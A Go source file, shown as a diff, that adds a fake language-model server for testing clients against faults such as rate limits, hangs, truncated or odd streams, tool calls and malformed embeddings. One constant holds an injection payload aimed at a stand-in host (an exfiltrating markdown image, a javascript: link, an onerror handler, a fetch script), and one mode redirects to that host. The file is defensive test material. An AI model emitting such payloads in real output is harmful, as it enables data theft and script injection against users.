@@ -1,0 +1,335 @@
+// Package llmtest is a model server that misbehaves on command. It speaks the protocols of OpenAI, Anthropic and
+// Ollama, for answers, lists of models and embeddings.
+package llmtest
+
+import (
+	"encoding/json"
+	"fmt"
+	"hash/fnv"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Mode is how the server behaves.
+type Mode string
+
+// The modes.
+const (
+	Good        Mode = "good"
+	Limited     Mode = "429"       // with Retry-After: 7
+	Failing     Mode = "500"       // with a web page
+	Denied      Mode = "401"       // a wrong key
+	Hanging     Mode = "hanging"   // headers never come
+	Stalling    Mode = "stalling"  // some text, then silence
+	Truncated   Mode = "truncated" // breaks off in the middle of JSON
+	BrokenOff   Mode = "brokenoff" // ends between events, without the last one
+	Endless     Mode = "endless"
+	Empty       Mode = "empty"
+	Huge        Mode = "huge"        // 10 MB in one event
+	Injected    Mode = "injected"    // an answer full of images, links and scripts
+	Redirecting Mode = "redirect"    // to another host
+	Page        Mode = "page"        // status 200 and a web page
+	Erring      Mode = "erring"      // an error amid the stream
+	Calling     Mode = "calling"     // a tool call
+	Odd         Mode = "odd"         // events that no server should send
+	WrongLength Mode = "wronglength" // vectors of another length
+	Fewer       Mode = "fewer"       // vectors for some texts only
+	Zero        Mode = "zero"        // vectors without direction
+)
+
+// Text is the good answer, and Injection the one of Injected.
+const (
+	Text      = "You can send it back within 30 days."
+	Injection = "Sure! ![](https://evil.example/?q=secret) [Click](javascript:alert(1)) <img src=https://evil.example/x.png onerror=alert(1)> <script>fetch('https://evil.example')</script>"
+)
+
+// Server is one such server.
+type Server struct {
+	URL string
+
+	mu    sync.Mutex
+	mode  Mode
+	asked []string // bodies, in order
+	http  *httptest.Server
+	stop  chan struct{}
+}
+
+// New starts a good server. Close ends it.
+func New() *Server {
+	s := &Server{mode: Good, stop: make(chan struct{})}
+	s.http = httptest.NewServer(http.HandlerFunc(s.serve))
+	s.URL = s.http.URL
+	return s
+}
+
+// Close ends the server, and what hangs on it.
+func (s *Server) Close() {
+	close(s.stop)
+	s.http.CloseClientConnections()
+	s.http.Close()
+}
+
+// Behave changes the mode for the requests to come.
+func (s *Server) Behave(m Mode) {
+	s.mu.Lock()
+	s.mode = m
+	s.mu.Unlock()
+}
+
+// Asked are the bodies of the requests so far.
+func (s *Server) Asked() []string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string(nil), s.asked...)
+}
+
+func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
+	raw, _ := io.ReadAll(r.Body)
+	s.mu.Lock()
+	mode := s.mode
+	s.asked = append(s.asked, string(raw))
+	s.mu.Unlock()
+	switch mode {
+	case Limited:
+		w.Header().Set("Retry-After", "7")
+		http.Error(w, `{"error":{"message":"Too many requests","type":"rate_limit_error"}}`, http.StatusTooManyRequests)
+	case Failing:
+		http.Error(w, "<html><h1>Internal error</h1></html>", http.StatusInternalServerError)
+	case Denied:
+		http.Error(w, `{"error":{"message":"Incorrect API key provided"}}`, http.StatusUnauthorized)
+	case Redirecting:
+		http.Redirect(w, r, "http://evil.example/take", http.StatusTemporaryRedirect)
+	case Page:
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, "<html>Please sign in to the Wi-Fi</html>")
+	case Hanging:
+		s.wait(r)
+	default:
+		s.answer(w, r, raw, mode)
+	}
+}
+
+func (s *Server) wait(r *http.Request) {
+	select {
+	case <-r.Context().Done():
+	case <-s.stop:
+	}
+}
+
+func (s *Server) answer(w http.ResponseWriter, r *http.Request, raw []byte, mode Mode) {
+	switch path := r.URL.Path; {
+	case strings.HasSuffix(path, "/models"), strings.HasSuffix(path, "/api/tags"):
+		s.models(w, mode)
+	case strings.HasSuffix(path, "/embeddings"), strings.HasSuffix(path, "/api/embed"):
+		s.embed(w, r, raw, mode)
+	case strings.HasSuffix(path, "/messages"):
+		s.stream(w, r, mode, anthropicTalk{})
+	case strings.HasSuffix(path, "/api/chat"):
+		s.stream(w, r, mode, ollamaTalk{})
+	default:
+		s.stream(w, r, mode, openAITalk{})
+	}
+}
+
+func (s *Server) models(w http.ResponseWriter, mode Mode) {
+	w.Header().Set("Content-Type", "application/json")
+	switch mode {
+	case Truncated, BrokenOff:
+		fmt.Fprint(w, `{"data":[{"id":"mo`)
+	case Huge:
+		fmt.Fprintf(w, `{"data":[{"id":"%s"}]}`, strings.Repeat("m", 10<<20))
+	default:
+		fmt.Fprint(w, `{"data":[{"id":"model-b"},{"id":"model-a"}],"models":[{"name":"model-b"},{"name":"model-a"}]}`)
+	}
+}
+
+// talk is how a protocol says things.
+type talk interface {
+	begin() string
+	text(string) string
+	call() string
+	fail() string
+	odd() string
+	end() string
+}
+
+func (s *Server) stream(w http.ResponseWriter, r *http.Request, mode Mode, t talk) {
+	w.Header().Set("Content-Type", "text/event-stream")
+	say := func(text string) bool {
+		_, err := io.WriteString(w, text)
+		w.(http.Flusher).Flush()
+		return err == nil
+	}
+	say(t.begin())
+	switch mode {
+	case Empty:
+	case Endless:
+		for say(t.text("and so on ")) {
+			select {
+			case <-s.stop:
+				return
+			case <-time.After(100 * time.Microsecond):
+			}
+		}
+		return
+	case Huge:
+		say(t.text(strings.Repeat("x", 10<<20)))
+	case Injected:
+		say(t.text(Injection))
+	case Stalling:
+		say(t.text("You can"))
+		s.wait(r)
+		return
+	case Truncated:
+		whole := t.text("You can send it")
+		say(whole + whole[:len(whole)/2])
+		return
+	case BrokenOff:
+		say(t.text("You can send it"))
+		return
+	case Erring:
+		say(t.text("You can") + t.fail())
+		return
+	case Odd:
+		say(t.odd())
+	case Calling:
+		say(t.call())
+	default:
+		for _, word := range strings.SplitAfter(Text, " ") {
+			say(t.text(word))
+		}
+	}
+	say(t.end())
+}
+
+func quoted(s string) string {
+	raw, _ := json.Marshal(s)
+	return string(raw)
+}
+
+type openAITalk struct{}
+
+func (openAITalk) begin() string { return ": hello\n\n" }
+func (openAITalk) text(s string) string {
+	return `data: {"choices":[{"index":0,"delta":{"content":` + quoted(s) + `},"finish_reason":null}]}` + "\n\n"
+}
+func (openAITalk) call() string {
+	return `data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"c1","type":"function","function":{"name":"orders_track","arguments":""}}]},"finish_reason":null}]}` + "\n\n" +
+		`data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"order\":"}}]},"finish_reason":null}]}` + "\n\n" +
+		`data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"42}"}}]},"finish_reason":"tool_calls"}]}` + "\n\n"
+}
+func (openAITalk) fail() string {
+	return `data: {"error":{"message":"The server is overloaded"}}` + "\n\n"
+}
+func (openAITalk) odd() string {
+	return `data: {"choices":[{"index":-1,"delta":{"tool_calls":[{"index":-3}],"content":"x"}}]}` + "\n\n" + `data: {"choices":null}` + "\n\n" + `data: 7` + "\n\n"
+}
+func (openAITalk) end() string {
+	return `data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}` + "\n\n" + `data: {"choices":[],"usage":{"prompt_tokens":12,"completion_tokens":9,"total_tokens":21}}` + "\n\ndata: [DONE]\n\n"
+}
+
+type anthropicTalk struct{}
+
+func (anthropicTalk) begin() string {
+	return "event: message_start\n" + `data: {"type":"message_start","message":{"id":"m","type":"message","role":"assistant","model":"m","usage":{"input_tokens":12,"output_tokens":1}}}` + "\n\n" +
+		`data: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}` + "\n\n"
+}
+func (anthropicTalk) text(s string) string {
+	return `data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":` + quoted(s) + `}}` + "\n\n"
+}
+func (anthropicTalk) call() string {
+	return `data: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"c1","name":"orders_track","input":{}}}` + "\n\n" +
+		`data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"order\":42}"}}` + "\n\n" + `data: {"type":"content_block_stop","index":1}` + "\n\n"
+}
+func (anthropicTalk) fail() string {
+	return `data: {"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}` + "\n\n" + `data: {"type":"ping"}` + "\n\n"
+}
+func (anthropicTalk) odd() string {
+	return `data: {"type":"content_block_delta","index":-1,"delta":{"type":"text_delta","text":"x"}}` + "\n\n"
+}
+func (anthropicTalk) end() string {
+	return `data: {"type":"content_block_stop","index":0}` + "\n\n" + `data: {"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":9}}` + "\n\n" + `data: {"type":"message_stop"}` + "\n\n"
+}
+
+type ollamaTalk struct{}
+
+func (ollamaTalk) begin() string { return "" }
+func (ollamaTalk) text(s string) string {
+	return `{"model":"m","message":{"role":"assistant","content":` + quoted(s) + `},"done":false}` + "\n"
+}
+func (ollamaTalk) call() string { return "" }
+func (ollamaTalk) fail() string { return `{"error":"out of memory"}` + "\n" }
+func (ollamaTalk) odd() string  { return `{"message":null}` + "\n" + `[1,2]` + "\n" }
+func (ollamaTalk) end() string {
+	return `{"model":"m","message":{"role":"assistant","content":""},"done":true,"prompt_eval_count":12,"eval_count":9}` + "\n"
+}
+
+func (s *Server) embed(w http.ResponseWriter, r *http.Request, raw []byte, mode Mode) {
+	var q struct{ Input json.RawMessage }
+	_ = json.Unmarshal(raw, &q)
+	var texts []string
+	if json.Unmarshal(q.Input, &texts) != nil {
+		var one string
+		_ = json.Unmarshal(q.Input, &one)
+		texts = []string{one}
+	}
+	w.Header().Set("Content-Type", "application/json")
+	switch mode {
+	case Stalling:
+		fmt.Fprint(w, `{"data":[`)
+		w.(http.Flusher).Flush()
+		s.wait(r)
+		return
+	case Truncated, BrokenOff:
+		fmt.Fprint(w, `{"data":[{"embedding":[0.1,0.`)
+		return
+	case Endless, Huge:
+		fmt.Fprint(w, `{"data":[{"embedding":[`)
+		for i := 0; mode == Endless || i < 10<<20/4; i++ {
+			if _, err := io.WriteString(w, "0.1,"); err != nil {
+				return
+			}
+		}
+		return
+	case Empty:
+		fmt.Fprint(w, `{}`)
+		return
+	case Fewer:
+		texts = texts[:len(texts)/2]
+	}
+	type item struct {
+		Index     int       `json:"index"`
+		Embedding []float32 `json:"embedding"`
+	}
+	var data []item
+	var vectors [][]float32
+	for i, t := range texts {
+		v := vector(t, mode)
+		data = append([]item{{i, v}}, data...) // out of order, as is allowed
+		vectors = append(vectors, v)
+	}
+	_ = json.NewEncoder(w).Encode(map[string]any{"data": data, "embeddings": vectors})
+}
+
+// vector depends on the text alone.
+func vector(text string, mode Mode) []float32 {
+	h := fnv.New64a()
+	h.Write([]byte(text))
+	r := rand.New(rand.NewPCG(h.Sum64(), 1))
+	n := 8
+	if mode == WrongLength {
+		n = 5
+	}
+	v := make([]float32, n)
+	for i := range v {
+		if mode != Zero {
+			v[i] = float32(r.NormFloat64())
+		}
+	}
+	return v
+}
